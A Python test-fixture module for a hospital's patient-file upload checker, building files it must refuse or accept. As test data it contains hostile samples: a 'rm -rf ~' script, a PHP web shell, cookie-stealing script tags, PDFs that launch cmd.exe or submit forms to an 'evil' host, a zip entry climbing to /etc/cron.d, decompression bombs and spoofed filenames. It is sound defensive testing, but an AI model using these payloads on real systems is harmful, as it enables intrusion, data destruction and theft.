"""Uploads that somebody might try, built here, and the ones that people really send."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from hospital import paper
from patients import files
from patients.files import store

Build = Callable[[], bytes]
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


class Named(SimpleUploadedFile):
    """Django would cut the path off the name; here nobody has."""

    name = ""

    def __init__(self, name: str, content: bytes, media_type: str) -> None:
        super().__init__("x", content, media_type)
        self.name = name


def upload(name: str, content: bytes, media_type: str = "application/pdf") -> SimpleUploadedFile:
    """A file as it arrives, whatever its name."""
    return Named(name, content, media_type)


# ── What people send ────────────────────────────────────────────────────────


@cache
def pdf(text: str = "Discharged in good health.") -> bytes:
    data = {"foot": "", "from": "Ward 3", "day": "", "fictitious": "", "about": "", "signed": ""}
    return paper.pdf("letter", data | {"paragraphs": [text]}, title="Letter")


@cache
def png(width: int = 60, height: int = 40) -> bytes:
    return _picture("PNG", width, height)


@cache
def jpeg(width: int = 60, height: int = 40) -> bytes:
    return _picture("JPEG", width, height)


def _picture(kind: str, width: int, height: int) -> bytes:
    kept = io.BytesIO()
    picture = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    picture.save(kept, kind)
    return kept.getvalue()


def interlaced_png() -> bytes:
    """A grey one of 1 by 1: all seven passes but one are empty."""
    return raw_png(1, 1, zlib.compress(b"\0\x80"), interlaced=1)


TEXT = "Befund: unauffällig.\nمحمد, Nguyễn, Олена\n".encode()


# ── PDFs by hand ────────────────────────────────────────────────────────────


def raw_pdf(*objects: bytes, trailer: bytes = b"", page: bytes = b"", root: bytes = b"") -> bytes:
    """A small PDF: 1 is the catalog, 2 the pages, 3 the page, then the given objects from 4 on."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        *objects,
    ]
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R " % (len(bodies) + 1) + trailer + b" >>\n"
    return made + table + end + b"startxref\n%d\n%%%%EOF\n" % len(made)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    head = b"<< /Filter /FlateDecode /Length %d " % len(packed) + entries
    return head + b" >>\nstream\n" + packed + b"\nendstream"


def packed_pdf(*hidden: bytes, root: bytes, more: bytes = b"") -> bytes:
    """A PDF whose objects from 10 on lie packed in one stream, so that no name in them can be read from outside.

    `more` follows them in it.
    """
    at, heads, bodies = 0, b"", b""
    for number, body in enumerate(hidden, 10):
        heads += b"%d %d " % (number, at)
        bodies += body + b" "
        at += len(body) + 1
    packed = stream(heads + bodies + more, b"/Type /ObjStm /N %d /First %d" % (len(hidden), len(heads)))
    made = b"%PDF-1.7\n"
    places = {}
    for number, body in (
        (1, b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"),
        (4, packed),
    ):
        places[number] = len(made)
        made += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows = b"".join(struct.pack(">BIH", 1, places[number], 0) for number in (1, 2, 3, 4))
    rows += b"".join(struct.pack(">BIH", 2, 4, place) for place in range(len(hidden)))
    size = 10 + len(hidden)
    entries = b"/Type /XRef /W [1 4 2] /Root 1 0 R /Size %d /Index [1 4 10 %d]" % (size, len(hidden))
    at = len(made)
    made += b"9 0 obj\n" + stream(rows, entries) + b"\nendobj\n"
    return made + b"startxref\n%d\n%%%%EOF\n" % at


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter  # noqa: PLC0415 where it is needed

    writer, kept = PdfWriter(PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt("", "owner", algorithm="RC4-128")
    writer.write(kept)
    return kept.getvalue()


def pdf_with_a_bomb() -> bytes:
    """A hundred kilobytes that unpack to a hundred megabytes."""
    return packed_pdf(b"<< >>", root=b"/Dests 10 0 R", more=b"[" * 100_000_000)


def deep_pdf() -> bytes:
    """Lists in lists in lists."""
    return raw_pdf(b"[" * 5_000 + b"]" * 5_000)


def pdf_in_a_circle() -> bytes:
    """Its pages hold themselves."""
    return raw_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


# ── Pictures by hand ────────────────────────────────────────────────────────


def raw_png(width: int, height: int, data: bytes, *, interlaced: int = 0, more: bytes = b"") -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, interlaced)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
    return start + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def pixel_flood_jpeg() -> bytes:
    """A small JPEG whose header says 60 000 by 60 000."""
    made = bytearray(jpeg())
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(made)


def zipped(*names: str, content: bytes = b"x") -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return kept.getvalue()


HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 400
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\0" * 400
JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
ATTACHED = b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>"

# What it is, what it is called, how it is made, and the code of the reason.
REFUSED: tuple[tuple[str, str, Build, str], ...] = (
    ("a program for Windows", "letter.pdf", lambda: EXE, "program"),
    ("a program for Linux", "photo.png", lambda: ELF, "program"),
    ("a script", "notes.txt", lambda: b"#!/bin/sh\nrm -rf ~\n", "program"),
    ("a program with two endings", "letter.pdf.exe", lambda: EXE, "program"),
    ("a PDF with the name of a program", "letter.pdf.exe", pdf, "name"),
    ("a PDF with the name of a picture", "letter.png", pdf, "name"),
    ("a picture with the name of a PDF", "photo.pdf", png, "name"),
    ("a text with the name of a PDF", "letter.pdf", lambda: b"hello", "name"),
    ("a text with the name of a web page", "letter.html", lambda: b"hello", "name"),
    ("a web page as a picture", "photo.png", lambda: HTML, "markup"),
    ("a web page as a PDF", "letter.pdf", lambda: HTML, "markup"),
    ("a web page as a text", "notes.txt", lambda: HTML, "markup"),
    ("a web page behind a mark and blanks", "notes.txt", lambda: b"\xef\xbb\xbf \n\t" + HTML, "markup"),
    ("an SVG as a picture", "photo.png", lambda: SVG, "markup"),
    ("an SVG as a text", "drawing.txt", lambda: SVG, "markup"),
    (
        "XML as a text",
        "data.txt",
        lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>',
        "markup",
    ),
    ("PHP as a text", "notes.txt", lambda: b"<?php system($_GET['c']); ?>", "markup"),
    ("a saved web page", "notes.txt", lambda: b"MIME-Version: 1.0\nContent-Type: text/html\n\n", "markup"),
    ("PostScript", "letter.pdf", lambda: b"%!PS-Adobe-3.0\n(x) show", "markup"),
    ("rich text", "letter.txt", lambda: b"{\\rtf1{\\object\\objdata 01}}", "office"),
    ("an archive", "letter.pdf", lambda: zipped("a.txt"), "archive"),
    ("an archive that climbs out", "letter.zip", lambda: zipped("../../etc/cron.d/x"), "archive"),
    ("an archive that unpacks to a lot", "x.zip", lambda: zipped("a", content=b"\0" * 50_000_000), "archive"),
    ("a Word document", "letter.docx", lambda: zipped("[Content_Types].xml", "word/document.xml"), "office"),
    (
        "an old Word document",
        "letter.doc",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "office",
    ),
    ("something packed", "letter.pdf.gz", lambda: gzip.compress(b"x" * 1000), "archive"),
    ("a tape archive", "x.tar", lambda: b"x".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 248, "archive"),
    ("a PDF that is an archive too", "letter.pdf", lambda: pdf() + zipped("x.exe"), "archive"),
    ("a picture that is an archive too", "photo.jpg", lambda: jpeg() + zipped("x.exe"), "archive"),
    ("a GIF that is a script too", "photo.png", lambda: b"GIF89a/*\0\0\0*/=1;alert(1)//", "picture"),
    (
        "a picture of a kind that is not kept",
        "photo.webp",
        lambda: b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 30,
        "picture",
    ),
    ("a picture of 20 000 by 20 000", "photo.png", lambda: raw_png(20_000, 20_000, b"x"), "too_many_pixels"),
    ("a JPEG that says 60 000 by 60 000", "photo.jpg", pixel_flood_jpeg, "too_many_pixels"),
    (
        "a picture that is larger than it says",
        "photo.png",
        lambda: raw_png(9, 9, zlib.compress(b"\0" * 60_000_000)),
        "broken",
    ),
    (
        "a picture that is smaller than it says",
        "photo.png",
        lambda: raw_png(90, 90, zlib.compress(b"\0")),
        "broken",
    ),
    ("a picture with nothing in it", "photo.png", lambda: raw_png(0, 9, b""), "broken"),
    ("half a PNG", "photo.png", lambda: png(300, 200)[:-90], "broken"),
    ("a PNG and more", "photo.png", lambda: png() + HTML, "broken"),
    ("half a JPEG", "photo.jpg", lambda: jpeg(300, 200)[:-40], "broken"),
    ("the beginning of a JPEG", "photo.jpg", lambda: b"\xff\xd8\xff\xe0", "broken"),
    ("half a PDF", "letter.pdf", lambda: pdf()[:-900], "broken"),
    ("the beginning of a PDF", "letter.pdf", lambda: b"%PDF-1.7\n%%EOF", "broken"),
    ("a PDF without pages", "letter.pdf", lambda: pdf_saying(b"0"), "broken"),
    ("a PDF with a million pages", "letter.pdf", lambda: pdf_saying(b"1000000"), "too_many_pages"),
    (
        "a PDF that runs a script at once",
        "a.pdf",
        lambda: raw_pdf(JAVASCRIPT, root=b"/OpenAction 4 0 R"),
        "javascript",
    ),
    (
        "a PDF with a named script",
        "a.pdf",
        lambda: raw_pdf(root=b"/Names << /JavaScript << >> >>"),
        "javascript",
    ),
    (
        "a PDF with a script written otherwise",
        "a.pdf",
        lambda: raw_pdf(b"<< /S /#4a#61vaScrip#74 /J#53 (x) >>", root=b"/AA << /WC 4 0 R >>"),
        "javascript",
    ),
    (
        "a PDF with a packed script",
        "a.pdf",
        lambda: packed_pdf(JAVASCRIPT, root=b"/AA << /WC 10 0 R >>"),
        "javascript",
    ),
    (
        "a PDF with a script in two halves",
        "a.pdf",
        lambda: packed_pdf(b"/Launch", b"<< /S 10 0 R /F (x) >>", root=b"/AA << /WC 11 0 R >>"),
        "action",
    ),
    ("a PDF that starts a program", "a.pdf", lambda: raw_pdf(LAUNCH, page=b"/AA << /O 4 0 R >>"), "action"),
    (
        "a PDF that opens another",
        "a.pdf",
        lambda: raw_pdf(b"<< /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>"),
        "action",
    ),
    ("a PDF that sends a form", "a.pdf", lambda: raw_pdf(b"<< /S /SubmitForm /F (http://evil) >>"), "action"),
    ("a PDF that carries a file", "a.pdf", lambda: raw_pdf(ATTACHED, stream(EXE)), "embedded_file"),
    (
        "a PDF that carries a packed file",
        "a.pdf",
        lambda: packed_pdf(b"<< /EF << /F 3 0 R >> >>", root=b"/AF [10 0 R]"),
        "embedded_file",
    ),
    ("a PDF with a password", "a.pdf", encrypted_pdf, "encrypted"),
    ("a PDF that unpacks to a lot", "a.pdf", pdf_with_a_bomb, "too_complex"),
    ("a PDF that is very deep", "a.pdf", deep_pdf, "too_complex"),
    ("a PDF that goes round in a circle", "a.pdf", pdf_in_a_circle, "broken"),
    ("a PDF behind a kilobyte of HTML", "a.pdf", lambda: HTML.ljust(1024) + pdf(), "markup"),
    ("a PDF behind a kilobyte of noise", "a.pdf", lambda: b"\xfe" * 1024 + pdf(), "unknown_kind"),
    ("nothing", "a.pdf", lambda: b"", "empty"),
    ("blanks", "a.txt", lambda: b" \n \n", "empty"),
    ("text in UTF-16", "a.txt", lambda: "Befund".encode("utf-16"), "unknown_kind"),
    ("text in Latin-1", "a.txt", lambda: "Übelkeit".encode("latin-1"), "unknown_kind"),
    ("text with NUL", "a.txt", lambda: b"a\0b", "no_text"),
    ("text that speaks to a terminal", "a.txt", lambda: b"\x1b]0;owned\x07\x1b[2J", "no_text"),
    ("text that turns its direction", "a.txt", "10 mg \u202eg001\u202c".encode, "no_text"),
    ("a very long text", "a.txt", lambda: b"a" * 2_000_001, "too_long"),
    ("noise", "a.bin", lambda: bytes(range(128, 256)) * 4, "unknown_kind"),
)


def pdf_saying(count: bytes) -> bytes:
    return raw_pdf().replace(b"/Count 1 ", b"/Count " + count + b" ")


LET_IN: tuple[tuple[str, str, Build, str], ...] = (
    ("a PDF", "Letter.PDF", pdf, "application/pdf"),
    (
        "a PDF that opens at a page",
        "a.pdf",
        lambda: raw_pdf(root=b"/OpenAction [3 0 R /Fit]"),
        "application/pdf",
    ),
    (
        "a PDF with a link",
        "a.pdf",
        lambda: raw_pdf(b"<< /S /URI /URI (https://example.org) >>"),
        "application/pdf",
    ),
    ("a packed PDF", "a.pdf", lambda: packed_pdf(b"<< /A 1 >>", root=b"/Dests 10 0 R"), "application/pdf"),
    ("a PNG", "photo.png", png, "image/png"),
    ("an interlaced PNG", "photo.png", interlaced_png, "image/png"),
    ("a JPEG", "photo.jpeg", jpeg, "image/jpeg"),
    ("a text of many scripts", "notes.txt", lambda: TEXT, "text/plain"),
    ("a text with a mark", "notes.txt", lambda: b"\xef\xbb\xbf" + TEXT, "text/plain"),
    ("a text that begins like a program", "bmi.txt", lambda: b"BMI 24.1, MZ twins", "text/plain"),
    ("a table with a formula", "table.csv", lambda: b'=HYPERLINK("http://evil";"x")\n', "text/plain"),
    ("a string that virus scanners know", "eicar.txt", EICAR.encode, "text/plain"),
    ("a text without an ending", "README", lambda: TEXT, "text/plain"),
)

# How a name is given, and how it is shown.
NAMES: tuple[tuple[str, str], ...] = (
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\windows\\system32\\x.pdf", "x.pdf"),
    ("/etc/passwd.pdf", "passwd.pdf"),
    ("..", "document.pdf"),
    ("", "document.pdf"),
    ("a.exe\0.pdf", "a.exe.pdf"),
    ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie: x=1.pdf"),
    ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
    ("a\u200b\u2066b\u2069.pdf", "ab.pdf"),
    ("x" * 5000 + ".pdf", "x" * 196 + ".pdf"),
    ("محمد.pdf", "محمد.pdf"),
    (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.pdf",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645.pdf",
    ),
    ("<script>alert(1).pdf", "<script>alert(1).pdf"),
    ("CON.pdf", "CON.pdf"),
    ("letter", "letter.pdf"),
)


def let_in(name: str = "letter.pdf", content: bytes | None = None) -> files.Incoming:
    return files.let_in(upload(name, pdf() if content is None else content))


def what_lies_there() -> list[Path]:
    return [path for path in store.folder().rglob("*") if path.is_file()]
